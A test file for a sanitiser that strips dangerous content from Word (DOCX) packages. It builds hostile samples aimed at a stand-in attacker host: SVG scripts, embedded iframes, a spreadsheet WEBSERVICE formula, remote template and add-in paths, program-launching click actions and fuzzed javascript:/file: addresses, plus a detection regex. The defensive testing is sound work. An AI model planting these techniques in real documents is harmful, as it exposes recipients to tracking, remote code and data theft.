import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readArchive } from './archive.ts';
import { cleanDocx } from './docx.ts';
import {
  docxOf,
  namedRelation,
  OFFICE,
  relation,
  relationsXml,
  textXml,
  typesXml,
  WORD,
  zipOf,
} from './samples.ts';
import { readXml } from './xml.ts';

type Parts = Record<string, string | Buffer>;
const PNG = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
const DRAWING = 'http://schemas.openxmlformats.org/drawingml/2006';
const RELATIONS = 'word/_rels/document.xml.rels';

const partsOf = async (given: Parts) => readArchive(Buffer.from(await cleanDocx(await docxOf(given))));

/** Elements whose text is displayed, whatever it contains. */
const SHOWN = new Set(['t', 'delText', 'v']);
const HOSTILE = /attacker|file:|javascript:|<script|<iframe/i;

/** Returns everything in a package that a reader could follow without having been asked. */
const tracesOf = (parts: ReadonlyMap<string, Buffer>): string[] => {
  const found: string[] = [];
  for (const [name, bytes] of parts) {
    if (HOSTILE.test(name)) found.push(name);
    if (!/\.(?:xml|rels)$/.test(name)) {
      if (HOSTILE.test(bytes.toString('latin1'))) found.push(`bytes of ${name}`);
      continue;
    }
    if (/<!--|<\?(?!xml )/.test(String(bytes))) found.push(`a remark in ${name}`);
    readXml(bytes, {
      onElement: ({ name: element, attributes, written }) => {
        const isLink = /\/hyperlink$/.test(attributes.get('Type') ?? '');
        const isClicked = isLink && /^(?:https?|mailto):/.test(attributes.get('Target') ?? '');
        if (attributes.get('TargetMode') === 'External' && !isClicked) found.push(`${name} leads out`);
        for (const [key, value] of written)
          if (HOSTILE.test(value) && !isClicked) found.push(`${element} ${key}="${value}" of ${name}`);
      },
      onText: (element, text) => {
        if (!SHOWN.has(element) && HOSTILE.test(text)) found.push(`${element}: ${text} of ${name}`);
      },
    });
  }
  return found;
};

const drawing = (content: string) =>
  `<w:p><w:r><w:drawing><a:graphic xmlns:a="${DRAWING}/main">${content}</a:graphic></w:drawing></w:r></w:p>`;
const SHOWN_TEXT = '<w:p><w:r><w:t>Diplom, see http://attacker.test</w:t></w:r></w:p>';

describe('a DOCX is handed out without', () => {
  it('an SVG, which runs and fetches; the bitmap that stands for it stays', async () => {
    const blip = `<a:blip r:embed="rId1"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId2"/></a:ext></a:extLst></a:blip>`;
    const parts = await partsOf({
      'word/document.xml': textXml(drawing(blip), `xmlns:r="${OFFICE}"`),
      [RELATIONS]: relationsXml(
        namedRelation('rId1', 'image', 'media/image1.png') +
          namedRelation('rId2', 'image', 'media/image1.svg'),
      ),
      'word/media/image1.png': PNG,
      'word/media/image1.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script><image href="http://attacker.test"/></svg>',
      // Under another name it is none either.
      'word/media/image2.xml': '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    });
    expect(tracesOf(parts)).toEqual([]);
    expect([...parts.keys()]).toEqual([
      ...['[Content_Types].xml', '_rels/.rels', 'word/document.xml', RELATIONS, 'word/media/image1.png'],
    ]);
    const text = String(parts.get('word/document.xml'));
    expect(text).toContain('<a:blip r:embed="rId1"><a:extLst></a:extLst></a:blip>');
    expect(String(parts.get(RELATIONS))).not.toContain('rId2');
  });

  it('a page that is shown as a video', async () => {
    const video = `<a:ext uri="{C809E66F}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=http://attacker.test>&lt;script>1&lt;/script>" h="1"/></a:ext>`;
    const parts = await partsOf({ 'word/document.xml': textXml(drawing(video) + SHOWN_TEXT) });
    expect(tracesOf(parts)).toEqual([]);
    const text = String(parts.get('word/document.xml'));
    expect(text).not.toContain('webVideoPr');
    expect(text).toContain('see http://attacker.test');
  });

  it('the sheet behind a chart or a table, which fetches; what they show stays', async () => {
    const sheet = await zipOf({
      'xl/worksheets/sheet1.xml': '<c><f>WEBSERVICE("http://attacker.test")</f></c>',
      'xl/drawings/_rels/drawing1.xml.rels': relationsXml(
        relation('image', 'file:////attacker.test/s/x.png', 'External'),
      ),
    });
    const chart = `<c:chartSpace xmlns:c="${DRAWING}/chart" xmlns:r="${OFFICE}"><c:chart><c:f>Sheet1!$A$2:$A$5</c:f><c:f>[http://attacker.test/x.xlsx]S!A1</c:f><c:v>12</c:v></c:chart><c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>`;
    const object =
      '<w:object><v:shape><v:imagedata r:id="rId1"/></v:shape><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rId2"/></w:object>';
    const spaces = `xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${OFFICE}"`;
    const parts = await partsOf({
      'word/document.xml': textXml(object, spaces),
      [RELATIONS]: relationsXml(
        namedRelation('rId1', 'image', 'media/image1.png') +
          namedRelation('rId2', 'package', 'embeddings/a.xlsx') +
          namedRelation('rId3', 'chart', 'charts/chart1.xml'),
      ),
      'word/media/image1.png': PNG,
      'word/embeddings/a.xlsx': sheet,
      'word/charts/chart1.xml': chart,
      'word/charts/_rels/chart1.xml.rels': relationsXml(relation('package', '../embeddings/a.xlsx')),
    });
    expect(tracesOf(parts)).toEqual([]);
    expect([...parts.keys()].filter((name) => name.includes('embeddings'))).toEqual([]);
    const text = String(parts.get('word/charts/chart1.xml'));
    expect(text).toContain('<c:f>Sheet1!$A$2:$A$5</c:f><c:f></c:f><c:v>12</c:v></c:chart></c:chartSpace>');
    expect(String(parts.get('word/document.xml'))).toContain(
      '<w:object><v:shape><v:imagedata r:id="rId1"/></v:shape></w:object>',
    );
  });

  it('schemas, templates and sources of data elsewhere', async () => {
    const library = `<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:manifestLocation="\\\\attacker.test\\m.xml" sl:schemaLocation="http://attacker.test/x.xsd"/></sl:schemaLibrary>`;
    const settings = `<w:settings xmlns:w="${WORD}" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId1"/><w:attachedSchema w:val="http://attacker.test"/><w:docVars><w:docVar w:name="a" w:val="http://attacker.test"/></w:docVars><w:zoom w:percent="100"/>${library}</w:settings>`;
    const parts = await partsOf({
      [RELATIONS]: relationsXml(relation('settings', 'settings.xml')),
      'word/settings.xml': settings,
      'word/_rels/settings.xml.rels': relationsXml(
        relation('attachedTemplate', 'file:///\\\\attacker.test\\evil.dotm', 'External'),
      ),
    });
    expect(tracesOf(parts)).toEqual([]);
    expect(String(parts.get('word/settings.xml'))).toContain(
      `xmlns:r="${OFFICE}"><w:attachedSchema w:val=""/><w:zoom w:percent="100"/></w:settings>`,
    );
  });

  it.each<[string, Parts]>([
    ['data of other programs', { 'customXml/item1.xml': '<x xmlns="urn:x">http://attacker.test</x>' }],
    [
      'what a text is bound to',
      {
        'word/document.xml': textXml(
          `<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings="xmlns:a='http://attacker.test'" w:xpath="/a"/></w:sdtPr></w:sdt>`,
        ),
      },
    ],
    [
      'add-ins',
      {
        'word/webextensions/webextension1.xml':
          '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"><we:reference store="\\\\attacker.test\\x"/></we:webextension>',
        'word/webextensions/taskpanes.xml':
          '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>',
        '_rels/.rels': relationsXml(
          relation('officeDocument', 'word/document.xml') +
            '<Relationship Id="b" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="word/webextensions/taskpanes.xml"/>',
        ),
      },
    ],
    [
      'documents in its drawings',
      {
        'word/document.xml': textXml(
          `<v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:gfxdata="${Buffer.from('http://attacker').toString('base64')}" v:src="http://attacker.test" o:href="file://attacker.test" xmlns:x="http://attacker.test" x:src="\\\\attacker.test\\x"/>`,
        ),
      },
    ],
    [
      'programs behind a click',
      {
        'word/document.xml': textXml(
          drawing(
            `<a:hlinkClick xmlns:r="${OFFICE}" r:id="" action="ppaction://program?attacker" invalidUrl="file:attacker"/>`,
          ),
        ),
      },
    ],
    [
      'instructions and remarks for other programs',
      {
        'word/document.xml': textXml('').replace(
          '<w:body>',
          '<?xml-stylesheet href="http://attacker.test"?><!-- http://attacker.test --><w:body>',
        ),
      },
    ],
    ['settings of a printer', { 'word/printerSettings1.bin': '\\\\attacker.test\\printer' }],
    ['data of fields', { 'word/document.xml': textXml('<w:fldData>http://attacker.test</w:fldData>') }],
    [
      'addresses in its types',
      {
        '[Content_Types].xml': typesXml(
          undefined,
          '<Default Extension="png" ContentType="image/png;http://attacker.test"/>',
        ),
      },
    ],
    [
      'relationships of nothing',
      { 'word/x/attacker.rels': relationsXml(relation('hyperlink', 'http://attacker.test', 'External')) },
    ],
  ])('%s', async (_, given) => {
    const parts = await partsOf(given);
    expect(tracesOf(parts)).toEqual([]);
    const text = String(parts.get('word/document.xml'));
    expect(text).not.toMatch(/gfxdata|dataBinding/);
    expect([...parts.keys()].join()).not.toMatch(/customXml|webext|printer/i);
  });

  it('what it does not know, where the reader is offered something else', async () => {
    const offer = `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="am3d" xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d"><am3d:model3d/></mc:Choice><mc:Fallback><w:t>shown</w:t></mc:Fallback></mc:AlternateContent>`;
    const text = String((await partsOf({ 'word/document.xml': textXml(offer) })).get('word/document.xml'));
    // No reader knows the vocabulary that it asks for, so that each takes the other.
    expect(text).toContain('<mc:Choice Requires="am3d" xmlns:am3d="urn:unknown"></mc:Choice><mc:Fallback>');
  });

  it('addresses in whatever attribute or text of whatever vocabulary', async () => {
    const address = fc.constantFrom(
      ...['http://attacker.test/x', 'HTTPS://attacker.test', '\\\\attacker.test\\m.xml', '//attacker.test/x'],
      ...['file:attacker', ' file:///c:/x', 'javascript:attacker()', '<script src=//attacker.test>'],
      ...['x ftp://attacker.test', 'url(//attacker.test/x)', 'mhtml:attacker', '%5c%5cattacker.test'],
      'http:%2f%2fattacker.test',
    );
    const space = fc.constantFrom(WORD, `${DRAWING}/main`, 'urn:schemas-microsoft-com:vml', 'urn:other');
    const name = fc.constantFrom('src', 'val', 'href', 'style', 'uri', 'descr', 'r', 'pict', 'shape', 'fill');
    const element = fc
      .tuple(space, name, space, name, address, address)
      .map(
        ([of, tag, from, key, value, text]) =>
          `<x:${tag} xmlns:x="${of}" xmlns:y="${from}" y:${key}="${escaped(value)}">${escaped(text)}</x:${tag}>`,
      );
    const part = fc.constantFrom('word/document.xml', 'word/settings.xml', 'word/a/b/header1.xml');
    await fc.assert(
      fc.asyncProperty(fc.array(element, { minLength: 1, maxLength: 5 }), part, async (body, where) => {
        expect(tracesOf(await partsOf({ [where]: textXml(body.join('')) }))).toEqual([]);
      }),
    );
  });
});

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

describe('refused is a DOCX', () => {
  it.each<[string, Parts]>([
    [
      'with a picture that is a drawing',
      { 'word/media/image1.png': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
    ],
    [
      'whose text is called a font',
      {
        '[Content_Types].xml': typesXml().replaceAll('document.xml', 'a.odttf'),
        'word/a.odttf': textXml(''),
      },
    ],
    [
      'in letters of seven bits that have eight',
      { 'word/document.xml': textXml('\u00bc').replace('UTF-8', 'us-ascii') },
    ],
    [
      'with two relationships of one name',
      {
        [RELATIONS]: relationsXml(
          relation('header', 'a.xml') + relation('hyperlink', 'http://a.test', 'External'),
        ),
      },
    ],
  ])('%s', async (_, given) => {
    await expect(partsOf(given)).rejects.toThrow();
  });
});
